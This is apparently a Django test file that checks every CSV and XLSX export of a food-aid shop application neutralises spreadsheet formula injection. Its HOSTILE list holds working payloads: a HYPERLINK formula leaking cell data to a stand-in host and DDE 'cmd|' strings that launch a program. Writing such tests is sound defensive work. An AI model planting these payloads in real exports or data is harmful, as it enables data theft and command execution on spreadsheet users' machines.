"""Formula injection (CSV/XLSX): shop data that looks like a formula (`=HYPERLINK(...)`, `+1+1`,
`@SUM(...)`, `-2+3`) comes out of EVERY spreadsheet export as text, never as a formula.

Exports are found generically: every page of the permission matrix is fetched by a manager as
it is, with `?format=csv` and with `?format=xlsx`; every answer that is a CSV or an XLSX file is
read cell by cell."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import openpyxl
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cabas.gestion.beneficiaries.services import household_create
from cabas.gestion.catalog.services import category_create, product_create
from cabas.gestion.stock.services import lot_receive
from tests.gestion.matrix import all_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d[\d\s\u202f]*([.,]\d+)?\s*(€|%|g|kg)?$")


def seed_hostile_data(world: Any) -> None:
    store = world.store_a
    for number, text in enumerate(HOSTILE):
        category = category_create(store=store, name=f"{text} rayon")
        product = product_create(
            store=store,
            actor=None,
            name=text,
            brand=text,
            category=category,
            price_cents=100 + number,
        )
        lot_receive(
            store=store,
            product=product,
            quantity=3,
            actor=None,
            dlc=timezone.localdate() + timedelta(days=2),
            source_label=text,
        )
        household_create(
            store=store,
            actor=None,
            data={"last_name": text, "first_name": text, "monthly_budget_cents": 1000},
        )


def cells(response: Any) -> list[str] | None:
    kind = response.get("Content-Type", "")
    if "text/csv" in kind:
        text = response.content.decode("utf-8-sig")
        sample = text[:2048]
        delimiter = ";" if sample.count(";") > sample.count(",") else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    if "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        found = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        found.append(f"FORMULA:{cell.value}")
                    elif isinstance(cell.value, str):
                        found.append(cell.value)
        return found
    return None


class RolledBack(Exception):  # noqa: N818
    pass


def read_exports(
    client: Client,
    row: Any,
    world: Any,
    exports: dict[str, int],
    hostile_seen: set[str],
    dangerous: list[tuple[str, str]],
) -> None:
    base = reverse(row.url_name, kwargs=row.kwargs(world) if row.kwargs else {})
    urls = [base, f"{base}?format=csv", f"{base}?format=xlsx"]
    if base.endswith(".csv"):
        urls.append(base.removesuffix(".csv") + ".xlsx")
    for url in urls:
        found = cells(client.get(url))
        if found is None:
            continue
        exports[url] = len(found)
        for cell in found:
            if "cmd|" in cell or "HYPERLINK" in cell:
                hostile_seen.add(url)
            if cell.startswith("FORMULA:") or (
                cell.startswith(TRIGGERS) and not NUMBER.match(cell.strip())
            ):
                dangerous.append((url, cell))


def scan_every_export(client: Client, world: Any) -> dict[str, Any]:
    """Every CSV/XLSX answer of every page a manager may open, read cell by cell: the exports
    read, those showing the hostile data, and every cell a spreadsheet would run."""
    exports: dict[str, int] = {}
    hostile_seen: set[str] = set()
    dangerous: list[tuple[str, str]] = []
    for row in all_rows():
        if row.method != "get" or row.expect.get("manager") != 200:
            continue
        # Each row builds its objects in a savepoint rolled back afterwards: the rows' builders
        # expect a fresh world (the permission matrix gives each its own).
        try:
            with transaction.atomic():
                read_exports(client, row, world, exports, hostile_seen, dangerous)
                raise RolledBack
        except RolledBack:
            pass
    return {"exports": exports, "hostile_seen": hostile_seen, "dangerous": dangerous}


def test_every_spreadsheet_export_neutralises_formulas(world: Any) -> None:
    seed_hostile_data(world)
    client = Client()
    client.force_login(world.alice)
    scan = scan_every_export(client, world)
    exports = scan["exports"]
    assert any("export" in url or "format" in url for url in exports), exports
    assert not scan["dangerous"], scan["dangerous"][:10]
    # The hostile names did reach the exports (the test would prove nothing otherwise).
    assert scan["hostile_seen"], sorted(exports)
    seen = sorted(scan["hostile_seen"])
    print(f"exports read: {sorted(exports)}; with the hostile data: {seen}")
